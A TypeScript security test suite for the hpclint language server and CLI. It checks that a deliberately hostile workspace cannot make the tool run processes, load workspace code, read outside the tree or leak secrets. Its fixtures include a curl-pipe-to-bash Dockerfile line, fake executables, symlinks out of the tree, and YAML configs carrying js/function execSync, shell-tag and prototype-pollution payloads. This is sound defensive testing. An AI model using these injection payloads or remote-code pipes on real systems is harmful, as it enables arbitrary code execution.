// Hostile workspaces: the shipped server and CLI bundles, run with a probe preloaded (probe.cjs), start
// no process, open no socket, resolve no host and fetch nothing unless a feature that needs it is on in a
// trusted workspace (ShellCheck); load no code from the workspace whatever its settings and config files
// say; read nothing outside the workspace; and never echo the secrets a recipe contains.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, sep } from 'node:path';
import { after, test } from 'node:test';
import { FORMATS } from '../../server/src/cli/args';
import { fileUri, RawClient, ROOT } from '../lsp/rawClient';

const PROBE = join(__dirname, 'probe.cjs');
const BUNDLES = join(ROOT, 'dist');
const SECRET = 'S3CR3TVALUE';

const temp = realpathSync(mkdtempSync(join(tmpdir(), 'hpclint-trust-')));
after(() => rmSync(temp, { recursive: true, force: true }));

interface ProbeRecord {
  kind: 'start' | 'process' | 'socket' | 'network' | 'code' | 'read';
  detail: string;
}

/** A workspace that tries everything: secrets in recipes, a fake `shellcheck`, code posing as config. */
function hostileWorkspace(name: string): { root: string; marker: string; outside: string } {
  const root = join(temp, name);
  const outside = join(temp, `${name}-outside`);
  mkdirSync(join(root, '.git'), { recursive: true });
  mkdirSync(outside, { recursive: true });
  const marker = join(temp, `${name}-executed`);
  writeFileSync(
    join(root, 'Dockerfile'),
    [
      'FROM ubuntu:24.04',
      `ARG GITLAB_TOKEN=glpat-${SECRET}1`,
      `ENV DB_PASSWORD=${SECRET}2 API_KEY=${SECRET}3`,
      'RUN curl -H "Authorization: Bearer $GITLAB_TOKEN" https://example.org/x | bash',
      'RUN gcc -march=native -o /usr/local/bin/app app.c && echo $UNQUOTED',
      // A copied script that links out of the workspace: hpclint says it cannot see inside and reads nothing there.
      'COPY build.sh /opt/build.sh',
      'RUN sh /opt/build.sh',
      '',
    ].join('\n'),
  );
  writeFileSync(
    join(root, 'Singularity'),
    ['Bootstrap: docker', 'From: ubuntu:24.04', '', '%arguments', `    API_TOKEN=${SECRET}5`, '', '%environment', `    export SECRET_KEY=${SECRET}6`, '', '%post', '    make', ''].join('\n'),
  );
  const fake = `#!/bin/sh\ntouch '${marker}'\nif [ "$1" = --version ]; then echo 'version: 0.9.0'; else echo '{"comments":[]}'; fi\n`;
  for (const script of ['shellcheck', 'evil.sh']) {
    writeFileSync(join(root, script), fake);
    chmodSync(join(root, script), 0o755);
  }
  writeFileSync(join(root, 'evil.js'), `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'loaded'); module.exports = {};\n`);
  writeFileSync(join(outside, 'secret.yaml'), `rules:\n  ${SECRET}7: off\n`);
  writeFileSync(join(outside, 'build.sh'), `git clone https://example.org/${SECRET}8.git\n`);
  symlinkSync(join(outside, 'build.sh'), join(root, 'build.sh'));
  mkdirSync(join(root, 'linked'));
  symlinkSync(join(outside, 'secret.yaml'), join(root, 'linked', '.hpclint.yaml'));
  writeFileSync(join(root, 'linked', 'Dockerfile'), 'FROM ubuntu:24.04\n');
  // Git metadata linked or pointing out of the tree: the own-repository lookup must not read it.
  mkdirSync(join(outside, 'dotgit'));
  writeFileSync(join(outside, 'dotgit', 'config'), `[remote "origin"]\n\turl = https://github.com/${SECRET}8/x.git\n`);
  writeFileSync(join(outside, 'dotgit', 'commondir'), '.\n');
  symlinkSync(join(outside, 'dotgit'), join(root, 'linked', '.git'));
  mkdirSync(join(root, 'pointer'));
  writeFileSync(join(root, 'pointer', '.git'), `gitdir: ${join(outside, 'dotgit')}\n`);
  writeFileSync(join(root, 'pointer', 'Dockerfile'), 'FROM ubuntu:24.04\nRUN git clone https://github.com/example/tool.git\n');
  return { root, marker, outside };
}

function probeEnv(log: string, extra: Record<string, string> = {}): Record<string, string> {
  return { HPCLINT_PROBE_LOG: log, HPCLINT_PROBE_BUNDLE_DIR: BUNDLES, ...extra };
}

function records(log: string): ProbeRecord[] {
  return existsSync(log)
    ? readFileSync(log, 'utf8')
        .trim()
        .split('\n')
        .filter((line) => line.length > 0)
        .map((line) => JSON.parse(line) as ProbeRecord)
    : [];
}

const inside = (path: string, root: string): boolean => path === root || path.startsWith(root + sep);

/** Reads outside `roots` (the workspace, the bundles); paths are resolved, so a link out of the tree shows. */
function readsOutside(all: readonly ProbeRecord[], roots: readonly string[]): string[] {
  return all
    .filter((r) => r.kind === 'read' && !r.detail.startsWith('fd '))
    .map((r) => {
      try {
        return realpathSync(r.detail);
      } catch {
        return r.detail;
      }
    })
    .filter((path) => !roots.some((root) => inside(path, root)));
}

const untouchedKinds = (all: readonly ProbeRecord[]): ProbeRecord[] => all.filter((r) => r.kind === 'process' || r.kind === 'socket' || r.kind === 'network' || r.kind === 'code');

/**
 * Messages in hpclint's own words (diagnostics, hovers, code actions, logs, notifications) that contain a
 * secret value. Answers that give the document's own text back (the outline, formatting edits, the
 * converted definition file) are the user's file, not hpclint talking about it.
 */
function leaks(client: RawClient, documentEchoes: ReadonlySet<number>): string[] {
  return client.received
    .filter((message) => typeof message.id !== 'number' || !documentEchoes.has(message.id))
    .map((message) => [message.method ?? `response ${String(message.id)}`, JSON.stringify(message)] as const)
    .filter(([, text]) => text.includes(SECRET))
    .map(([what, text]) => `${what}: …${text.slice(Math.max(0, text.indexOf(SECRET) - 150), text.indexOf(SECRET) + 40)}…`);
}

/** Ids of the requests whose answers are the document's own text (see `leaks`). */
async function exerciseServer(client: RawClient, root: string): Promise<Set<number>> {
  const echoes = new Set<number>();
  const echo = async (method: string, params: unknown): Promise<void> => {
    const id = client.send(method, params);
    echoes.add(id);
    await client.response(id);
  };
  const docs = [
    { uri: fileUri(join(root, 'Dockerfile')), languageId: 'dockerfile' },
    { uri: fileUri(join(root, 'Singularity')), languageId: 'apptainer' },
    { uri: fileUri(join(root, 'linked', 'Dockerfile')), languageId: 'dockerfile' },
    { uri: fileUri(join(root, 'pointer', 'Dockerfile')), languageId: 'dockerfile' },
  ];
  for (const { uri, languageId } of docs) {
    const path = new URL(uri).pathname;
    client.open(uri, languageId, readFileSync(path, 'utf8'));
    await client.waitFor((m) => m.method === 'textDocument/publishDiagnostics' && (m.params as { uri: string }).uri === uri, 30_000, `diagnostics for ${uri}`);
    const everywhere = { textDocument: { uri } };
    const range = { start: { line: 0, character: 0 }, end: { line: 12, character: 0 } };
    for (let line = 0; line < 10; line++) {
      await client.request('textDocument/hover', { ...everywhere, position: { line, character: 10 } });
    }
    const published = client.diagnostics(uri).at(-1)?.diagnostics ?? [];
    await client.request('textDocument/codeAction', { ...everywhere, range, context: { diagnostics: published } });
    await client.request('textDocument/codeAction', { ...everywhere, range, context: { diagnostics: [], only: ['source.fixAll.hpclint'] } });
    await client.request('textDocument/completion', { ...everywhere, position: { line: 4, character: 3 } });
    for (const method of ['textDocument/foldingRange', 'textDocument/documentLink', 'textDocument/semanticTokens/full']) {
      await client.request(method, everywhere);
    }
    await echo('textDocument/documentSymbol', everywhere);
    await echo('textDocument/formatting', { ...everywhere, options: { tabSize: 4, insertSpaces: true } });
    client.notify('textDocument/didSave', everywhere);
  }
  await client.request('hpclint/ruleDocumentation', { code: 'HPC-SEC-005' });
  await client.request('hpclint/listRules', {});
  await echo('hpclint/convertDockerfile', { uri: docs[0].uri, text: readFileSync(join(root, 'Dockerfile'), 'utf8') });
  client.notify('workspace/didChangeConfiguration', { settings: {} });
  client.notify('workspace/didChangeWatchedFiles', { changes: [{ uri: fileUri(join(root, '.hpclint.yaml')), type: 1 }] });
  await client.request('textDocument/hover', { textDocument: docs[0], position: { line: 4, character: 10 } });
  // Hovers on every use of the secret variables too.
  for (let character = 0; character < 60; character += 3) {
    await client.request('textDocument/hover', { textDocument: docs[0], position: { line: 3, character } });
  }
  // Give background work (extra diagnostic sources) time to start if it were going to.
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return echoes;
}

function serverSettings(root: string): object {
  return {
    shellcheck: { enable: true, path: join(root, 'evil.sh') },
    configFile: '',
    site: [join(root, 'evil.js')],
  };
}

test('the language server in an untrusted workspace: no process, socket, network or workspace code; reads stay inside; no secret in any message', async () => {
  const { root, marker, outside } = hostileWorkspace('untrusted');
  const log = join(temp, 'untrusted.log');
  const client = RawClient.start({
    nodeArgs: ['--require', PROBE],
    env: probeEnv(log, { PATH: `:.:${root}:${process.env.PATH ?? ''}` }),
    settings: serverSettings(root),
  });
  try {
    await client.initialize(root);
    const echoes = await exerciseServer(client, root);
    const all = records(log);
    assert.ok(all.some((r) => r.kind === 'start'), 'the probe was loaded');
    assert.ok(all.some((r) => r.kind === 'read'), 'the probe sees reads');
    assert.deepEqual(untouchedKinds(all), []);
    assert.ok(!existsSync(marker), 'nothing from the workspace was executed or loaded');
    assert.deepEqual(readsOutside(all, [root, BUNDLES]), [], `nothing read outside ${root} (also not ${outside} through a link)`);
    const everything = JSON.stringify(client.received) + client.stderr;
    assert.deepEqual(leaks(client, echoes), []);
    assert.match(everything, /HPC-SEC-005/, 'the secrets were found, by name');
  } finally {
    await client.exit();
  }
});

test('the probe sees a process: the same workspace, trusted, runs the configured ShellCheck (and only that)', async () => {
  const { root, marker } = hostileWorkspace('trusted');
  const log = join(temp, 'trusted.log');
  const client = RawClient.start({ nodeArgs: ['--require', PROBE], env: probeEnv(log), settings: serverSettings(root) });
  try {
    await client.initialize(root, { workspaceTrusted: true });
    await exerciseServer(client, root);
    const processes = records(log).filter((r) => r.kind === 'process');
    assert.ok(processes.length > 0, 'ShellCheck started in the trusted workspace');
    assert.ok(
      processes.every((r) => r.detail === join(root, 'evil.sh')),
      processes.map((r) => r.detail).join('\n'),
    );
    assert.ok(existsSync(marker));
    assert.deepEqual(
      records(log).filter((r) => r.kind === 'socket' || r.kind === 'network' || r.kind === 'code'),
      [],
    );
  } finally {
    await client.exit();
  }
});

function runCli(log: string, args: string[], cwd: string, env: Record<string, string> = {}): { status: number | null; output: string } {
  const result = spawnSync(process.execPath, ['--require', PROBE, join(BUNDLES, 'cli.js'), ...args], {
    cwd,
    encoding: 'utf8',
    env: { ...process.env, HPCLINT_TODAY: '2026-01-15', ...probeEnv(log), ...env },
    timeout: 60_000,
  });
  return { status: result.status, output: `${result.stdout}${result.stderr}` };
}

test('the CLI: no socket, network or workspace code in any format; a process only for ShellCheck from an absolute PATH entry', () => {
  const { root, marker, outside } = hostileWorkspace('cli');
  const log = join(temp, 'cli.log');
  // `.` and empty PATH entries would find the workspace's fake `shellcheck` if PATH were searched naively.
  const path = `:.:${process.env.PATH ?? ''}`;
  for (const format of FORMATS) {
    const run = runCli(log, ['--format', format, '--no-shellcheck', '.'], root, { PATH: path });
    assert.ok(run.status === 1 || run.status === 2, `${format}: exit ${run.status}: ${run.output.slice(0, 400)}`);
    assert.doesNotMatch(run.output, new RegExp(SECRET), `${format} output`);
  }
  const quiet = records(log);
  assert.ok(quiet.some((r) => r.kind === 'start'));
  assert.deepEqual(untouchedKinds(quiet), [], 'with --no-shellcheck nothing is started');
  assert.deepEqual(readsOutside(quiet, [root, BUNDLES, outside]).filter((p) => !/\.hpclint\.(yaml|yml|json)$/.test(p)), []);
  assert.deepEqual(readsOutside(quiet, [root, BUNDLES]).filter((p) => p.includes('dotgit')), [], 'no git metadata out of the tree');

  rmSync(log);
  const withShellCheck = runCli(log, ['--format', 'json', '.'], root, { PATH: path });
  assert.ok(withShellCheck.status === 1 || withShellCheck.status === 2, withShellCheck.output.slice(0, 400));
  for (const record of untouchedKinds(records(log))) {
    assert.equal(record.kind, 'process', JSON.stringify(record));
    assert.ok(!inside(record.detail, root) && record.detail.startsWith(sep), `only an absolute shellcheck outside the workspace: ${record.detail}`);
  }
  assert.ok(!existsSync(marker), 'the workspace\'s shellcheck was not run');
});

test('config files and settings are data: code-looking configs are refused without running anything', () => {
  const { root, marker } = hostileWorkspace('config');
  const log = join(temp, 'config.log');
  const configs = [
    `rules: !!js/function "function () { require('child_process').execSync('touch ${marker}') }"\n`,
    'site: ./evil.js\n',
    `site: ${join(root, 'evil.js')}\n`,
    '__proto__:\n  polluted: true\n',
    `rules:\n  HPC-PORT-001: !shell "touch ${marker}"\n`,
  ];
  for (const config of configs) {
    writeFileSync(join(root, '.hpclint.yaml'), config);
    const run = runCli(log, ['--no-shellcheck', 'Dockerfile'], root);
    assert.equal(run.status, 2, `${config}: ${run.output.slice(0, 300)}`);
    assert.match(run.output, /^hpclint: invalid config /m, config);
  }
  assert.deepEqual(untouchedKinds(records(log)), []);
  assert.ok(!existsSync(marker));
  assert.ok(dirname(marker) !== root);
});
